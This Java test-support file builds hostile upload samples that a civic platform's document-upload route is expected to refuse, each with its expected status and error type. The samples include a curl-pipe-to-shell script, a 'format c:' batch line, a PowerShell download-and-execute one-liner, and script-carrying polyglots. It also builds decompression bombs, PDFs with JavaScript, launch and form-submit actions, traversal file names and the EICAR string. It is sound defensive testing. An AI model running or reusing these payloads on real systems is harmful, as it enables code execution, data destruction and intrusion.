package org.civicplatform.app.it;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.zip.CRC32;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;

/**
 * The hostile-file corpus sent through the real upload route (HostileUploadsIT): each sample is made
 * here at test time, small, with the Kunshan slot and file name it is sent under and the status and
 * problem type it must be refused with. Client side only: never deployed.
 */
final class HostileSamples {

  static final String IMAGES = "diploma"; // JPG/PNG only
  static final String PDF = "registrationRecord"; // PDF only
  static final String ANY = "propertyCertificate"; // JPG/PNG/PDF

  /** Labels of those slots as the Kunshan form names them (every refusal text starts with one). */
  static final Map<String, String> LABELS = Map.of(
      IMAGES, "学历证书（图片）",
      PDF, "教育部学历证书电子注册备案表（PDF）",
      ANY, "产权证（图片或PDF）");
  static final Map<String, String> LABELS_EN = Map.of(
      IMAGES, "Diploma (image)",
      PDF, "Diploma electronic registration record (PDF)",
      ANY, "Property certificate (image or PDF)");

  /** One sample: what is sent where, and the refusal expected. */
  record Sample(String name, String slot, String fileName, byte[] content, int status, String kind) {
    String type() {
      return "urn:civic:problem:" + kind;
    }

    @Override
    public String toString() {
      return name + " → " + status + " " + kind;
    }
  }

  private HostileSamples() {}

  static List<Sample> all() {
    byte[] jpeg = jpeg(240, 160);
    byte[] png = png(240, 160);
    byte[] pdf = pdf();
    byte[] pe = bytes(ascii("MZ"), new byte[58], new byte[] {64, 0, 0, 0},
        ascii("This program cannot be run in DOS mode.\r\r\n$"), new byte[16], ascii("PE\0\0"), new byte[160]);
    byte[] elf = bytes(new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0}, new byte[120]);
    byte[] machO = bytes(new byte[] {(byte) 0xCF, (byte) 0xFA, (byte) 0xED, (byte) 0xFE, 7, 0, 0, 1}, new byte[120]);
    String eicar = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
    List<Sample> s = new ArrayList<>();
    // disguised executables and scripts
    s.add(new Sample("windows program named .pdf", PDF, "备案表.pdf", pe, 415, "document-executable"));
    s.add(new Sample("windows program named .jpg", IMAGES, "毕业证.jpg", pe, 415, "document-executable"));
    s.add(new Sample("linux program named .png", IMAGES, "scan.png", elf, 415, "document-executable"));
    s.add(new Sample("mac program named .pdf", ANY, "产权证.pdf", machO, 415, "document-executable"));
    s.add(new Sample("shell script named .pdf", PDF, "record.pdf", ascii("#!/bin/sh\ncurl http://x | sh\n"), 415, "document-script"));
    s.add(new Sample("batch file named .jpg", IMAGES, "photo.jpg", ascii("@echo off\r\nformat c: /q\r\n"), 415, "document-script"));
    s.add(new Sample("powershell named .pdf", ANY, "scan.pdf",
        ascii("powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://x')\"\n"), 415, "document-script"));
    // polyglots
    s.add(new Sample("gif that is also javascript", IMAGES, "photo.jpg",
        bytes(ascii("GIF89a/*"), new byte[] {10, 0, 0, 0, 0}, ascii("*/=alert(document.cookie);")), 422, "document-polyglot"));
    s.add(new Sample("jpeg with a 3 MB zip appended", IMAGES, "photo.jpg",
        bytes(jpeg, zip(Map.of("payload.bin", random(3 << 20)), ZipEntry.STORED)), 422, "document-polyglot"));
    s.add(new Sample("pdf that is also html", PDF, "record.pdf",
        bytes(ascii("%PDF-1.4\n%<html><script>alert(1)</script></html>\n"), Arrays.copyOfRange(pdf, 9, pdf.length)),
        422, "document-polyglot"));
    s.add(new Sample("html page with a pdf behind it", ANY, "cert.pdf",
        bytes(ascii("<html><body>certificate</body></html>\n"), pdf), 422, "document-polyglot"));
    // bombs and absurd sizes
    s.add(new Sample("zip bomb named .pdf", ANY, "cert.pdf", zip(Map.of("zeros", new byte[64 << 20]), ZipEntry.DEFLATED), 422, "document-bomb"));
    s.add(new Sample("gzip bomb named .pdf", ANY, "cert.pdf", gzip(new byte[64 << 20]), 422, "document-bomb"));
    s.add(new Sample("pdf stream inflating to 64 MB", PDF, "record.pdf", pdfWith(d -> {
      COSStream stream = d.getDocument().createCOSStream();
      try (OutputStream out = stream.createOutputStream(COSName.FLATE_DECODE)) {
        out.write(new byte[64 << 20]);
      }
      d.getPage(0).getCOSObject().setItem(COSName.CONTENTS, stream);
    }), 422, "document-bomb"));
    s.add(new Sample("png declaring 100000 x 100000 pixels", IMAGES, "photo.png", pngDeclaring(png, 100_000, 100_000), 422, "document-image-too-large"));
    s.add(new Sample("jpeg declaring 60000 x 60000 pixels", IMAGES, "photo.jpg", jpegDeclaring(jpeg, 60_000, 60_000), 422, "document-image-too-large"));
    // active and encrypted PDFs
    s.add(new Sample("pdf with javascript", PDF, "record.pdf",
        pdfWith(d -> d.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)"))), 422, "document-pdf-javascript"));
    s.add(new Sample("pdf with a launch action", PDF, "record.pdf", pdfWith(d -> {
      PDActionLaunch launch = new PDActionLaunch();
      launch.setFile(new PDSimpleFileSpecification(new COSString("cmd.exe")));
      d.getDocumentCatalog().setOpenAction(launch);
    }), 422, "document-pdf-launch"));
    s.add(new Sample("pdf with an embedded file", PDF, "record.pdf", pdfWith(d -> {
      PDComplexFileSpecification spec = new PDComplexFileSpecification();
      spec.setFile("invoice.exe");
      // harmless bytes: a program inside would be refused as a polyglot before the PDF is opened
      PDEmbeddedFile file = new PDEmbeddedFile(d, new java.io.ByteArrayInputStream(ascii("an attachment")));
      spec.setEmbeddedFile(file);
      PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
      tree.setNames(Map.of("invoice.exe", spec));
      PDDocumentNameDictionary names = new PDDocumentNameDictionary(d.getDocumentCatalog());
      names.setEmbeddedFiles(tree);
      d.getDocumentCatalog().setNames(names);
    }), 422, "document-pdf-embedded-file"));
    s.add(new Sample("pdf with an xfa form", PDF, "record.pdf", pdfWith(d -> {
      COSDictionary form = new COSDictionary();
      form.setItem(COSName.FIELDS, new COSArray());
      form.setItem(COSName.getPDFName("XFA"), new COSString("<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"/>"));
      d.getDocumentCatalog().getCOSObject().setItem(COSName.ACRO_FORM, form);
    }), 422, "document-pdf-xfa"));
    s.add(new Sample("pdf submitting a form on open", PDF, "record.pdf", pdfWith(d -> {
      COSDictionary submit = new COSDictionary();
      submit.setName(COSName.S, "SubmitForm");
      submit.setString(COSName.F, "http://collector.example/");
      d.getDocumentCatalog().getCOSObject().setItem(COSName.OPEN_ACTION, submit);
    }), 422, "document-active-content"));
    s.add(new Sample("pdf with a user password", PDF, "record.pdf", encrypted("1234"), 422, "document-encrypted"));
    s.add(new Sample("pdf with an owner password only", PDF, "record.pdf", encrypted(""), 422, "document-encrypted"));
    s.add(new Sample("pdf whose /Encrypt names a missing object", PDF, "record.pdf",
        handWritten("/Encrypt 9 0 R", null), 422, "document-encrypted"));
    s.add(new Sample("pdf encrypted for certificates", ANY, "cert.pdf", handWritten("/Encrypt 5 0 R",
        "<< /Filter /Adobe.PubSec /SubFilter /adbe.pkcs7.s4 /V 4 /R 4 /Recipients [<3000>] >>"), 422, "document-encrypted"));
    // markup and office files
    s.add(new Sample("svg with a script named .png", IMAGES, "photo.png",
        ascii("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"), 415, "document-svg"));
    s.add(new Sample("html page named .pdf", PDF, "record.pdf",
        ascii("<!DOCTYPE html><html><head><title>x</title></head><body onload=\"alert(1)\"></body></html>"), 415, "document-html"));
    s.add(new Sample("word file with macros", ANY, "cert.docm.pdf", zip(Map.of("[Content_Types].xml", ascii("<Types/>"),
        "word/document.xml", ascii("<w:document/>"), "word/vbaProject.bin", random(512)), ZipEntry.DEFLATED), 415, "document-office"));
    s.add(new Sample("old word file (ole2) named .jpg", IMAGES, "photo.jpg", bytes(new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11,
        (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1}, new byte[504], ascii("_VBA_PROJECT"), new byte[512]), 415, "document-office"));
    s.add(new Sample("7z archive", ANY, "cert.pdf", bytes(new byte[] {'7', 'z', (byte) 0xBC, (byte) 0xAF, 0x27, 0x1C, 0, 4}, new byte[200]), 415, "document-archive"));
    // EICAR
    s.add(new Sample("eicar named .pdf", ANY, "cert.pdf", ascii(eicar), 422, "document-malware"));
    s.add(new Sample("eicar zipped", ANY, "cert.pdf", zip(Map.of("eicar.com", ascii(eicar)), ZipEntry.DEFLATED), 422, "document-malware"));
    s.add(new Sample("eicar in a zip in a zip", ANY, "cert.pdf",
        zip(Map.of("inner.zip", zip(Map.of("eicar.com", ascii(eicar)), ZipEntry.DEFLATED)), ZipEntry.DEFLATED), 422, "document-malware"));
    // file names
    s.add(new Sample("path traversal in the file name", IMAGES, "../../../etc/cron.d/photo.jpg", jpeg, 400, "document-file-name"));
    s.add(new Sample("windows path traversal in the file name", PDF, "..\\..\\Windows\\System32\\record.pdf", pdf, 400, "document-file-name"));
    s.add(new Sample("nul byte in the file name", IMAGES, "photo.jpg\0.exe", jpeg, 400, "document-file-name"));
    // damaged and empty
    s.add(new Sample("pdf cut off", PDF, "record.pdf", Arrays.copyOf(pdf, pdf.length * 2 / 3), 422, "document-truncated"));
    s.add(new Sample("jpeg cut off", IMAGES, "photo.jpg", Arrays.copyOf(jpeg, jpeg.length / 2), 422, "document-truncated"));
    s.add(new Sample("png cut off", IMAGES, "photo.png", Arrays.copyOf(png, png.length - 20), 422, "document-truncated"));
    s.add(new Sample("empty file", ANY, "cert.pdf", new byte[0], 400, "document-empty"));
    s.add(new Sample("11 MB file into a 10 MB slot", ANY, "cert.pdf", bytes(pdf, new byte[11 << 20]), 413, "document-too-large"));
    // wrong slot
    s.add(new Sample("pdf into an image-only slot", IMAGES, "diploma.pdf", pdf, 415, "document-type-not-allowed"));
    s.add(new Sample("jpeg into a pdf-only slot", PDF, "record.jpg", jpeg, 415, "document-type-not-allowed"));
    s.add(new Sample("a slot kunshan does not have", "passport", "photo.jpg", jpeg, 404, "document-slot-unknown"));
    s.add(new Sample("3 MB program into a slot kunshan does not have", "passport", "photo.jpg",
        bytes(pe, random(3 << 20)), 404, "document-slot-unknown"));
    s.add(new Sample("a slot of the other tenant (siming)", "rareCharacterProof", "photo.jpg", jpeg, 404, "document-slot-unknown"));
    return s;
  }

  // --- makers (all in memory)

  interface PdfChange {
    void apply(PDDocument document) throws IOException;
  }

  /** A one-page PDF with a line of text, as a registration record would be. */
  static byte[] pdf() {
    return handWritten("", null);
  }

  static byte[] pdfWith(PdfChange change) {
    try (PDDocument document = Loader.loadPDF(pdf())) {
      change.apply(document);
      return save(document);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  static byte[] encrypted(String userPassword) {
    return pdfWith(d -> {
      StandardProtectionPolicy policy = new StandardProtectionPolicy("owner-" + userPassword.length(), userPassword,
          new AccessPermission());
      policy.setEncryptionKeyLength(128);
      d.protect(policy);
    });
  }

  /**
   * A PDF written byte by byte: catalog, one page with text, {@code object5} as object 5 when given,
   * and {@code trailerExtra} in the trailer (an encryption entry PDFBox would not act on).
   */
  static byte[] handWritten(String trailerExtra, String object5) {
    String text = "BT /F1 12 Tf 72 712 Td (Record 2024) Tj ET";
    List<String> objects = new ArrayList<>(List.of("<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
            + " /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
        "<< /Length " + text.length() + " >>\nstream\n" + text + "\nendstream"));
    if (object5 != null) {
      objects.add(object5);
    }
    StringBuilder out = new StringBuilder("%PDF-1.4\n");
    List<Integer> at = new ArrayList<>();
    for (int i = 0; i < objects.size(); i++) {
      at.add(out.length());
      out.append(i + 1).append(" 0 obj\n").append(objects.get(i)).append("\nendobj\n");
    }
    int xref = out.length();
    out.append("xref\n0 ").append(objects.size() + 1).append("\n0000000000 65535 f \n");
    at.forEach(offset -> out.append(String.format("%010d 00000 n \n", offset)));
    out.append("trailer\n<< /Size ").append(objects.size() + 1).append(" /Root 1 0 R ").append(trailerExtra)
        .append(" /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>] >>\nstartxref\n")
        .append(xref).append("\n%%EOF\n");
    return ascii(out.toString());
  }

  static byte[] jpeg(int width, int height) {
    return image(width, height, "jpeg");
  }

  static byte[] png(int width, int height) {
    return image(width, height, "png");
  }

  private static byte[] image(int width, int height, String format) {
    BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
    Random random = new Random(width * 31L + height);
    for (int y = 0; y < height; y++) {
      for (int x = 0; x < width; x++) {
        image.setRGB(x, y, (x * 255 / width) << 16 | (y * 255 / height) << 8 | random.nextInt(64));
      }
    }
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try {
      ImageIO.write(image, format, out);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toByteArray();
  }

  /** The same PNG with another size in its header (and a valid header checksum). */
  static byte[] pngDeclaring(byte[] png, int width, int height) {
    byte[] b = png.clone();
    putInt(b, 16, width);
    putInt(b, 20, height);
    CRC32 crc = new CRC32();
    crc.update(b, 12, 17);
    putInt(b, 29, (int) crc.getValue());
    return b;
  }

  /** The same JPEG with another size in its frame header. */
  static byte[] jpegDeclaring(byte[] jpeg, int width, int height) {
    byte[] b = jpeg.clone();
    for (int i = 2; i + 9 < b.length; ) {
      int marker = b[i + 1] & 0xFF;
      if (marker >= 0xC0 && marker <= 0xC2) {
        b[i + 5] = (byte) (height >> 8);
        b[i + 6] = (byte) height;
        b[i + 7] = (byte) (width >> 8);
        b[i + 8] = (byte) width;
        return b;
      }
      i += 2 + (((b[i + 2] & 0xFF) << 8) | (b[i + 3] & 0xFF));
    }
    throw new IllegalArgumentException("no frame header");
  }

  static byte[] zip(Map<String, byte[]> entries, int method) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(out)) {
      for (var e : new java.util.TreeMap<>(entries).entrySet()) {
        ZipEntry entry = new ZipEntry(e.getKey());
        entry.setMethod(method);
        if (method == ZipEntry.STORED) {
          CRC32 crc = new CRC32();
          crc.update(e.getValue());
          entry.setSize(e.getValue().length);
          entry.setCrc(crc.getValue());
        }
        zip.putNextEntry(entry);
        zip.write(e.getValue());
        zip.closeEntry();
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toByteArray();
  }

  static byte[] gzip(byte[] content) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (GZIPOutputStream gz = new GZIPOutputStream(out)) {
      gz.write(content);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toByteArray();
  }

  static byte[] random(int size) {
    byte[] b = new byte[size];
    new Random(size).nextBytes(b);
    return b;
  }

  static byte[] save(PDDocument document) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    document.save(out);
    return out.toByteArray();
  }

  static byte[] ascii(String s) {
    return s.getBytes(StandardCharsets.ISO_8859_1);
  }

  static byte[] bytes(byte[]... parts) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (byte[] p : parts) {
      out.writeBytes(p);
    }
    return out.toByteArray();
  }

  private static void putInt(byte[] b, int at, int v) {
    b[at] = (byte) (v >>> 24);
    b[at + 1] = (byte) (v >>> 16);
    b[at + 2] = (byte) (v >>> 8);
    b[at + 3] = (byte) v;
  }
}
